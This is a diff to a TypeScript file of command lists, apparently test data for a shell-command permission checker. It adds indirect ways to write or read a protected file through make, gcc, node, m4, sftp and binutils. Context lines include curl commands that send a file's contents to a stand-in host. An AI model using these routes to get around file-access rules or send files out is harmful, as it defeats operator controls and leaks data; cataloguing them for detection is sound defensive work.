@@ -1,5 +1,23 @@
 /** Ways to write the file `target` of the working directory. */
 export const WRITING_ROUTES: readonly string[] = [
+  "make --eval='$(file >target,hi)'",
+  "make --eval='$(file >> target,hi)' x",
+  "make -f - <<< '$(file >target,hi)'",
+  "make 'X=$(file >target,hi)'",
+  'gcc a.c -Wl,-o -Wl,target',
+  'gcc -Wl,-o,target a.c',
+  'gcc -Wl,-otarget a.c',
+  'gcc a.c -Xlinker -o -Xlinker target',
+  'gcc -c -fdump-tree-all=target a.c',
+  'gcc -c -fopt-info-all=target a.c',
+  'gcc -c -fdump-go-spec=target a.c',
+  'node --cpu-prof --cpu-prof-name=target a.js',
+  'node --heap-prof --heap-prof-name=target a.js',
+  'node --cpu-prof --cpu-prof-dir=. --cpu-prof-name target a.js',
+  'm4 -F target notes',
+  'm4 --debugfile=target notes',
+  "sftp h <<< 'get y target'",
+  "sftp h <<< 'get sub/target'",
   'gawk -otarget 1 a',
   'awk -ptarget 1 a',
   'gawk --dump-variables=target 1 a',
@@ -344,6 +362,16 @@ export const REMOVING_ROUTES: readonly string[] = [
 
 /** Ways to read it. */
 export const READING_ROUTES: readonly string[] = [
+  "make --eval='$(info $(file <target))'",
+  "make -f - <<< '$(info $(file <target))'",
+  "make --eval=$'include target\\nx:;@echo $(K)' x",
+  "printf 'include target\\nx:;@echo $(K)\\n' | make -f - x",
+  "make -f - <<< '-include notes target'",
+  "make 'X=$(file <target)'",
+  ...'nm strip strings size objcopy ar objdump ld as readelf ranlib addr2line c++filt gcc-nm llvm-nm'
+    .split(' ')
+    .map((name) => `${name} @target`),
+  'm4 -R target notes',
   'curl --url-query @target http://x',
   'curl -w @target http://x',
   'curl --proxy-header @target http://x',
